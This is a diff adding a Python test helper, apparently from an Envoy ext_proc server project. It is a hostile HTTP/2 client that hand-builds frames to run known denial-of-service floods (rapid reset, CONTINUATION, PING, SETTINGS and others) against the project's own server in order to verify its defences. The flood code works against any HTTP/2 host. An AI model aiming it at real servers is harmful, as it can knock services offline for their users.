@@ -1,0 +1,278 @@
+"""A hostile HTTP/2 client for extproc's server: raw sockets and hand-made frames.
+
+Each attack is a `Flood`: what a connection opens with, and a batch of frames it sends
+again and again. `flood()` sends batches as fast as the socket takes them while a second
+thread reads (and so drains) what the server answers, until the server ends the connection
+or the attack has sent its frames; with `reconnect`, a connection that is ended is replaced
+by a new one, so the attack goes on for its whole size. It reports how each connection
+ended (the GOAWAY code, if the server sent one).
+
+Only what the tests and tests/bench/bench_h2_floods.py need; nothing here is shipped.
+"""
+
+from __future__ import annotations
+
+import os
+import socket
+import struct
+import threading
+import time
+from dataclasses import dataclass, field
+
+from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, END_HEADERS = 0x1, 0x4
+ENHANCE_YOUR_CALM = 0xB
+PROCESS = "/envoy.service.ext_proc.v3.ExternalProcessor/Process"
+
+_HUFFMAN_BITS = [format(code, f"0{length}b") for code, length in zip(REQUEST_CODES, REQUEST_CODES_LENGTH, strict=False)]
+
+
+def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload
+
+
+def _int(value: int, prefix_bits: int, first: int = 0) -> bytes:
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes((first | value,))
+    out = bytearray((first | limit,))
+    value -= limit
+    while value >= 128:
+        out.append((value & 0x7F) | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def huffman(value: bytes) -> bytes:
+    bits = "".join(_HUFFMAN_BITS[b] for b in value)
+    bits += "1" * (-len(bits) % 8)  # padded with the most significant bits of EOS
+    return int(bits, 2).to_bytes(len(bits) // 8, "big")
+
+
+def literal(name: bytes, value: bytes, *, huffman_value: bool = False) -> bytes:
+    """A header field without indexing (stateless, so one block serves every stream)."""
+    if huffman_value:
+        coded = huffman(value)
+        return b"\x00" + _int(len(name), 7) + name + _int(len(coded), 7, 0x80) + coded
+    return b"\x00" + _int(len(name), 7) + name + _int(len(value), 7) + value
+
+
+def request_block(*extra: bytes) -> bytes:
+    """The header block of an ext_proc call, as Envoy would open one, plus `extra` fields."""
+    return b"".join(
+        [
+            literal(b":method", b"POST"),
+            literal(b":scheme", b"http"),
+            literal(b":path", PROCESS.encode()),
+            literal(b":authority", b"extproc"),
+            literal(b"content-type", b"application/grpc"),
+            literal(b"te", b"trailers"),
+            *extra,
+        ]
+    )
+
+
+@dataclass
+class Flood:
+    """An attack: `opening` once per connection, then `batch(n)` over and over (n counts batches)."""
+
+    name: str
+    frames_per_batch: int
+    opening: bytes = PREFACE + frame(SETTINGS, 0, 0)
+
+    def batch(self, n: int) -> bytes:
+        raise NotImplementedError
+
+
+class Repeat(Flood):
+    """The same frames again and again."""
+
+    def __init__(self, name: str, one: bytes, per_batch: int = 1000, opening: bytes = b"") -> None:
+        super().__init__(name, per_batch, PREFACE + frame(SETTINGS, 0, 0) + opening)
+        self._batch = one * per_batch
+
+    def batch(self, n: int) -> bytes:
+        return self._batch
+
+
+class NewStreams(Flood):
+    """HEADERS opening a new stream each (and with `reset`, RST_STREAM right after it)."""
+
+    def __init__(self, name: str, block: bytes, *, per_batch: int = 200, reset: bool = False) -> None:
+        super().__init__(name, per_batch * (2 if reset else 1))
+        self._block = block
+        self._per_batch = per_batch
+        self._reset = reset
+
+    def batch(self, n: int) -> bytes:
+        out = []
+        first = 1 + 2 * n * self._per_batch
+        for stream_id in range(first, first + 2 * self._per_batch, 2):
+            out.append(frame(HEADERS, END_HEADERS, stream_id, self._block))
+            if self._reset:
+                out.append(frame(RST_STREAM, 0, stream_id, struct.pack(">I", 0x8)))
+        return b"".join(out)
+
+
+class HuffmanHeaders(Flood):
+    """Each stream's headers carry a large, unique Huffman-coded value."""
+
+    def __init__(self, size: int = 12_000, variants: int = 32) -> None:
+        super().__init__("unique large Huffman headers", 1)
+        self._values = [literal(b"x-junk", os.urandom(size // 2).hex().encode(), huffman_value=True)
+                        for _ in range(variants)]  # fmt: skip
+
+    def batch(self, n: int) -> bytes:
+        block = request_block(self._values[n % len(self._values)])
+        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, block)
+
+
+class Continuations(Flood):
+    """One header block that never ends: CONTINUATION after CONTINUATION."""
+
+    def __init__(self, size: int = 16_000) -> None:
+        opening = frame(HEADERS, 0, 1, request_block())
+        super().__init__("CONTINUATION flood", 1, PREFACE + frame(SETTINGS, 0, 0) + opening)
+        self._one = frame(CONTINUATION, 0, 1, literal(b"x-junk", b"j" * (size - 16)))
+
+    def batch(self, n: int) -> bytes:
+        return self._one
+
+
+def attacks() -> list[Flood]:
+    """The floods an HTTP/2 server is known to fall to, each at the size it is run at."""
+    open_stream = frame(HEADERS, END_HEADERS, 1, request_block())
+    return [
+        Repeat("PING flood", frame(PING, 0, 0, b"flood!!!")),
+        Repeat("SETTINGS flood", frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65_535))),
+        HuffmanHeaders(),
+        NewStreams("50k open streams", request_block()),
+        NewStreams("rapid reset", request_block(), reset=True),
+        Continuations(),
+        Repeat("WINDOW_UPDATE flood", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
+        Repeat("empty DATA", frame(DATA, 0, 1), opening=open_stream),
+    ]
+
+
+#: How many frames each attack sends in all (the sizes the attacks were first measured at).
+SIZES = {
+    "PING flood": 3_000_000,
+    "SETTINGS flood": 1_000_000,
+    "unique large Huffman headers": 2_000,
+    "50k open streams": 50_000,
+    "rapid reset": 100_000,
+    "CONTINUATION flood": 100_000,
+    "WINDOW_UPDATE flood": 1_000_000,
+    "empty DATA": 1_000_000,
+}
+
+
+@dataclass
+class Outcome:
+    attack: str
+    #: per connection: the GOAWAY error code the server ended it with (None: closed without one,
+    #: or still open when the attack stopped)
+    ended: list[int | None] = field(default_factory=list)
+    frames: int = 0
+    seconds: float = 0.0
+
+    @property
+    def calmed(self) -> int:
+        """Connections the server ended with ENHANCE_YOUR_CALM."""
+        return sum(code == ENHANCE_YOUR_CALM for code in self.ended)
+
+
+def _reader(sock: socket.socket, codes: list[int]) -> None:
+    """Drain the server's frames; note the code of a GOAWAY; stop at EOF or an error."""
+    data = b""
+    try:
+        while True:
+            chunk = sock.recv(1 << 16)
+            if not chunk:
+                return
+            data += chunk
+            while len(data) >= 9:
+                length = int.from_bytes(data[:3], "big")
+                if len(data) < 9 + length:
+                    break
+                if data[3] == GOAWAY and length >= 8:
+                    codes.append(int.from_bytes(data[13:17], "big"))
+                data = data[9 + length :]
+    except OSError:
+        return
+
+
+def one_connection(host: str, port: int, attack: Flood, frames: int, deadline: float) -> tuple[int | None, int, bool]:
+    """Attack over one connection: (GOAWAY code or None, frames sent, whether the server ended it)."""
+    sock = socket.create_connection((host, port), timeout=10)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    codes: list[int] = []
+    reader = threading.Thread(target=_reader, args=(sock, codes), daemon=True)
+    reader.start()
+    sent = 0
+    ended = False
+    n = 0
+    try:
+        sock.sendall(attack.opening)
+        while sent < frames and time.monotonic() < deadline:
+            sock.sendall(attack.batch(n))
+            n += 1
+            sent += attack.frames_per_batch
+            if not reader.is_alive():
+                ended = True
+                break
+    except OSError:
+        ended = True
+    try:
+        sock.shutdown(socket.SHUT_WR)
+    except OSError:
+        pass
+    reader.join(5)
+    ended = ended or not reader.is_alive()
+    sock.close()
+    return (codes[-1] if codes else None), sent, ended
+
+
+def flood(host: str, port: int, attack: Flood, frames: int, *, seconds: float = 30.0, reconnect: bool = True) -> Outcome:
+    """Send `frames` frames of `attack` (or for `seconds`), on new connections as the server ends them."""
+    outcome = Outcome(attack.name)
+    start = time.monotonic()
+    deadline = start + seconds
+    while outcome.frames < frames and time.monotonic() < deadline:
+        code, sent, ended = one_connection(host, port, attack, frames - outcome.frames, deadline)
+        outcome.frames += sent
+        outcome.ended.append(code if ended else None)
+        if not reconnect or not ended:
+            break
+    outcome.seconds = time.monotonic() - start
+    return outcome
+
+
+def idle_connections(host: str, port: int, count: int, *, preface: bool) -> list[socket.socket]:
+    """`count` connections that say nothing (or only the preface and SETTINGS) and never read."""
+    socks = []
+    for _ in range(count):
+        sock = socket.create_connection((host, port), timeout=10)
+        if preface:
+            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        socks.append(sock)
+    return socks
+
+
+def closed_by_server(sock: socket.socket, timeout: float) -> bool:
+    """Whether the server closes `sock` within `timeout` seconds (what it sends first is read and dropped)."""
+    sock.settimeout(timeout)
+    deadline = time.monotonic() + timeout
+    try:
+        while time.monotonic() < deadline:
+            if not sock.recv(1 << 16):
+                return True
+    except TimeoutError:
+        return False
+    except OSError:
+        return True
+    return False
